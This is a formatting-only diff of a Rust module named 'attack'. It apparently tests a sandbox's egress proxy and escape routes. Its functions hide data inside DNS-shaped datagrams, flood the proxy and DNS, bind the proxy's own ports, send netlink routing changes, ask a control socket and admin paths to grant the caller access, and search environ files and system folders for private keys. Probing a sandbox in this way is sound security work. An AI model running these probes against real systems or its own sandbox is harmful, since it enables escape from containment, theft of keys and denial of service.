@@ -49,7 +49,11 @@ pub(super) fn attack(name: &str, arguments: &[&str]) -> Option<()> {
         ("find-key", [wanted]) => find_key(wanted),
         ("speak-secretly", [host, text]) => {
             let told = speak_secretly(host, text).map_err(|error| error.to_string());
-            say(&format!("hears {}", told.unwrap_or_else(|error| error).replace(['\r', '\n'], " ")));
+            say(&format!(
+                "hears {}",
+                told.unwrap_or_else(|error| error)
+                    .replace(['\r', '\n'], " ")
+            ));
         }
         _ => return None,
     }
@@ -60,7 +64,8 @@ pub(super) fn attack(name: &str, arguments: &[&str]) -> Option<()> {
 fn speak_all(all: &[&str]) {
     for words in all.chunks_exact(3) {
         let said = speak(words[1], words[2]).unwrap_or_default();
-        let said = String::from_utf8_lossy(&said[..said.len().min(TOLD)]).replace(['\r', '\n'], " ");
+        let said =
+            String::from_utf8_lossy(&said[..said.len().min(TOLD)]).replace(['\r', '\n'], " ");
         say(&format!("{} hears {said}", words[0]));
     }
 }
@@ -95,17 +100,26 @@ fn speak(to: &str, parts: &str) -> Option<Vec<u8>> {
 }
 
 fn bytes(text: &str) -> Vec<u8> {
-    let digit = |at: usize| text.get(at..at + 2).and_then(|pair| u8::from_str_radix(pair, 16).ok());
+    let digit = |at: usize| {
+        text.get(at..at + 2)
+            .and_then(|pair| u8::from_str_radix(pair, 16).ok())
+    };
     (0..text.len()).step_by(2).filter_map(digit).collect()
 }
 
 /// A way to the door that is somebody else's, at port 3130.
 fn relay() {
-    let Ok(listener) = TcpListener::bind("127.0.0.1:3130") else { return };
+    let Ok(listener) = TcpListener::bind("127.0.0.1:3130") else {
+        return;
+    };
     thread::spawn(move || {
         while let Ok((near, _)) = listener.accept() {
-            let Ok(far) = TcpStream::connect(DOOR) else { continue };
-            let (Ok(near_too), Ok(far_too)) = (near.try_clone(), far.try_clone()) else { continue };
+            let Ok(far) = TcpStream::connect(DOOR) else {
+                continue;
+            };
+            let (Ok(near_too), Ok(far_too)) = (near.try_clone(), far.try_clone()) else {
+                continue;
+            };
             thread::spawn(move || pump(near, far));
             thread::spawn(move || pump(far_too, near_too));
         }
@@ -119,15 +133,21 @@ fn pump(mut from: TcpStream, mut to: TcpStream) {
 
 /// Asks for many names, as fast as they are answered.
 fn ask_many(stem: &str, count: usize) {
-    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else { return };
+    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else {
+        return;
+    };
     _ = socket.set_read_timeout(Some(Duration::from_millis(500)));
     let mut answered = 0;
     for number in 0..count {
         let name = format!("n{number}.{stem}");
-        let labels = name.split('.').flat_map(|label| [&[label.len() as u8], label.as_bytes()].concat());
+        let labels = name
+            .split('.')
+            .flat_map(|label| [&[label.len() as u8], label.as_bytes()].concat());
         let mut question = [&[7, 7, 1, 0, 0, 1][..], &[0; 6]].concat();
         question.extend(labels.chain([0, 0, 1, 0, 1]));
-        let asked = socket.send_to(&question, "127.0.0.1:53").and_then(|_| socket.recv(&mut [0; 512]));
+        let asked = socket
+            .send_to(&question, "127.0.0.1:53")
+            .and_then(|_| socket.recv(&mut [0; 512]));
         answered += usize::from(asked.is_ok());
     }
     say(&format!("answered {answered}"));
@@ -136,10 +156,27 @@ fn ask_many(stem: &str, count: usize) {
 /// Sends a text to each of these, in the clothes of a datagram and of a question for a name.
 fn datagrams(text: &str, addresses: &[&str]) {
     let label = [&[text.len() as u8], text.as_bytes()].concat();
-    let question = [&[7, 7, 1, 0, 0, 1][..], &[0; 6], &label, &[7], b"example", &[0, 0, 16, 0, 1]].concat();
-    for address in addresses.iter().filter_map(|address| address.parse::<SocketAddr>().ok()) {
-        let here = if address.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
-        let Ok(socket) = UdpSocket::bind(here) else { continue };
+    let question = [
+        &[7, 7, 1, 0, 0, 1][..],
+        &[0; 6],
+        &label,
+        &[7],
+        b"example",
+        &[0, 0, 16, 0, 1],
+    ]
+    .concat();
+    for address in addresses
+        .iter()
+        .filter_map(|address| address.parse::<SocketAddr>().ok())
+    {
+        let here = if address.is_ipv4() {
+            "0.0.0.0:0"
+        } else {
+            "[::]:0"
+        };
+        let Ok(socket) = UdpSocket::bind(here) else {
+            continue;
+        };
         for words in [text.as_bytes(), &question] {
             _ = socket.send_to(words, address);
         }
@@ -147,7 +184,12 @@ fn datagrams(text: &str, addresses: &[&str]) {
         _ = socket.recv(&mut [0; 512]);
     }
     // One that the kernel sends for us.
-    _ = call!(libc::SYS_socket, libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP);
+    _ = call!(
+        libc::SYS_socket,
+        libc::AF_INET,
+        libc::SOCK_DGRAM,
+        libc::IPPROTO_ICMP
+    );
 }
 
 /// Takes the door's places, and changes what leads to it.
@@ -160,17 +202,33 @@ fn tamper() {
             let message: Vec<u8> = [
                 &[36, 0, 0, 0, 25, 0, 5, 0][..],
                 &[0; 8],
-                &[2, 0, 0, 0, 255, 0, 255, 0, 0, 0, 0, 0, 8, 0, 4, 0, 1, 0, 0, 0],
+                &[
+                    2, 0, 0, 0, 255, 0, 255, 0, 0, 0, 0, 0, 8, 0, 4, 0, 1, 0, 0, 0,
+                ],
             ]
             .concat();
-            _ = call!(libc::SYS_sendto, socket, message.as_slice(), message.len(), 0, 0, 0);
+            _ = call!(
+                libc::SYS_sendto,
+                socket,
+                message.as_slice(),
+                message.len(),
+                0,
+                0,
+                0
+            );
         }
     }
     for at in ["127.0.0.1:53", "0.0.0.0:53"] {
-        claim(&format!("the place of names, {at}, can be taken"), UdpSocket::bind(at));
+        claim(
+            &format!("the place of names, {at}, can be taken"),
+            UdpSocket::bind(at),
+        );
     }
     for at in [DOOR, "0.0.0.0:3128"] {
-        claim(&format!("the door's place, {at}, can be taken"), TcpListener::bind(at));
+        claim(
+            &format!("the door's place, {at}, can be taken"),
+            TcpListener::bind(at),
+        );
     }
 }
 
@@ -179,15 +237,23 @@ fn grant_oneself(host: &str, socket: &str) {
     let ask = format!("{{\"op\":\"grant\",\"host\":\"{host}\",\"seconds\":900}}\n");
     if let Some(mut stream) = claim(&format!("{socket} answers"), UnixStream::connect(socket)) {
         let mut told = [0; 4096];
-        _ = stream.set_read_timeout(Some(PATIENCE)).and_then(|()| stream.write_all(ask.as_bytes()));
+        _ = stream
+            .set_read_timeout(Some(PATIENCE))
+            .and_then(|()| stream.write_all(ask.as_bytes()));
         let count = stream.read(&mut told).unwrap_or(0);
-        say(&format!("{socket} says {}", String::from_utf8_lossy(&told[..count])));
+        say(&format!(
+            "{socket} says {}",
+            String::from_utf8_lossy(&told[..count])
+        ));
     }
     for method in ["POST", "PUT", "PATCH", "DELETE"] {
         for path in ["/v1/rules", "/", "/admin", "/v1/grant"] {
-            let Ok(mut stream) = TcpStream::connect(DOOR) else { continue };
+            let Ok(mut stream) = TcpStream::connect(DOOR) else {
+                continue;
+            };
             let length = ask.len();
-            let head = format!("{method} {path} HTTP/1.1\r\nHost: {DOOR}\r\nContent-Length: {length}\r\n");
+            let head =
+                format!("{method} {path} HTTP/1.1\r\nHost: {DOOR}\r\nContent-Length: {length}\r\n");
             _ = stream.set_read_timeout(Some(PATIENCE));
             _ = stream.write_all(format!("{head}Connection: close\r\n\r\n{ask}").as_bytes());
             _ = stream.read_to_end(&mut Vec::new());
@@ -199,8 +265,11 @@ fn grant_oneself(host: &str, socket: &str) {
 fn half_open(count: usize) -> Vec<TcpStream> {
     let begun = (0..count).filter_map(|number| {
         let mut stream = TcpStream::connect(DOOR).ok()?;
-        let words: &[u8] =
-            if number % 2 == 0 { b"GET http://allowed.example/ HTTP/1.1\r\nA: " } else { b"\x05" };
+        let words: &[u8] = if number % 2 == 0 {
+            b"GET http://allowed.example/ HTTP/1.1\r\nA: "
+        } else {
+            b"\x05"
+        };
         stream.write_all(words).ok()?;
         Some(stream)
     });
@@ -213,7 +282,9 @@ fn flood(count: usize) {
     thread::spawn(|| {
         let line = format!("X-Long: {}\r\n", "a".repeat(60_000));
         loop {
-            let Ok(mut stream) = TcpStream::connect(DOOR) else { continue };
+            let Ok(mut stream) = TcpStream::connect(DOOR) else {
+                continue;
+            };
             _ = stream.set_write_timeout(Some(PATIENCE));
             _ = stream.write_all(b"GET http://allowed.example/ HTTP/1.1\r\n");
             while stream.write_all(line.as_bytes()).is_ok() {}
@@ -224,7 +295,8 @@ fn flood(count: usize) {
 
 /// Tells how long the slowest of so many requests took, and how many were answered.
 fn time(count: usize, host: &str) {
-    let request = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+    let request =
+        format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
     let (mut slowest, mut answered) = (Duration::ZERO, 0);
     for _ in 0..count {
         let (began, mut heard) = (Instant::now(), Vec::new());
@@ -242,7 +314,12 @@ fn time(count: usize, host: &str) {
 
 /// Looks for the key of the door's authority wherever it might lie.
 fn find_key(wanted: &str) {
-    for place in ["/airlock/certificates.pem", "/proc/self/environ", "/proc/1/environ", wanted] {
+    for place in [
+        "/airlock/certificates.pem",
+        "/proc/self/environ",
+        "/proc/1/environ",
+        wanted,
+    ] {
         let text = std::fs::read_to_string(place).unwrap_or_default();
         if text.contains("PRIVATE KEY") {
             say(&format!("claim a key lies in {place}"));
@@ -251,16 +328,26 @@ fn find_key(wanted: &str) {
     for folder in ["/airlock", "/run", "/tmp", "/etc", "/var", "/workspace"] {
         for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
             let path = entry.path();
-            let small = entry.metadata().is_ok_and(|found| found.is_file() && found.len() < 1 << 16);
-            if small && std::fs::read_to_string(&path).is_ok_and(|text| text.contains("PRIVATE KEY")) {
+            let small = entry
+                .metadata()
+                .is_ok_and(|found| found.is_file() && found.len() < 1 << 16);
+            if small
+                && std::fs::read_to_string(&path).is_ok_and(|text| text.contains("PRIVATE KEY"))
+            {
                 tell(&path.to_string_lossy());
                 say(&format!("claim a key lies in {}", path.display()));
             }
         }
     }
     let certificates = std::fs::read_to_string("/airlock/certificates.pem").unwrap_or_default();
-    let own = certificates.rsplit("-----BEGIN CERTIFICATE-----").next().unwrap_or_default();
-    say(&format!("certificate {}", own.split_whitespace().collect::<String>()));
+    let own = certificates
+        .rsplit("-----BEGIN CERTIFICATE-----")
+        .next()
+        .unwrap_or_default();
+    say(&format!(
+        "certificate {}",
+        own.split_whitespace().collect::<String>()
+    ));
 }
 
 /// In TLS that the door ends, trusting whom programs here are told to trust.
@@ -269,12 +356,14 @@ fn speak_secretly(host: &str, text: &str) -> Result<String, Box<dyn std::error::
     let known = CertificateDer::pem_file_iter("/airlock/certificates.pem")?;
     roots.add_parsable_certificates(known.flatten());
     let provider = Arc::new(rustls::crypto::ring::default_provider());
-    let config = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
+    let config =
+        ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
     let config = config.with_root_certificates(roots).with_no_client_auth();
     let client = ClientConnection::new(Arc::new(config), ServerName::try_from(host.to_owned())?)?;
     let mut stream = TcpStream::connect(DOOR)?;
     stream.set_read_timeout(Some(PATIENCE))?;
-    stream.write_all(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n").as_bytes())?;
+    stream
+        .write_all(format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n").as_bytes())?;
     let mut answer = [0; 4096];
     let count = stream.read(&mut answer)?;
     if !answer[..count].starts_with(b"HTTP/1.1 200") {
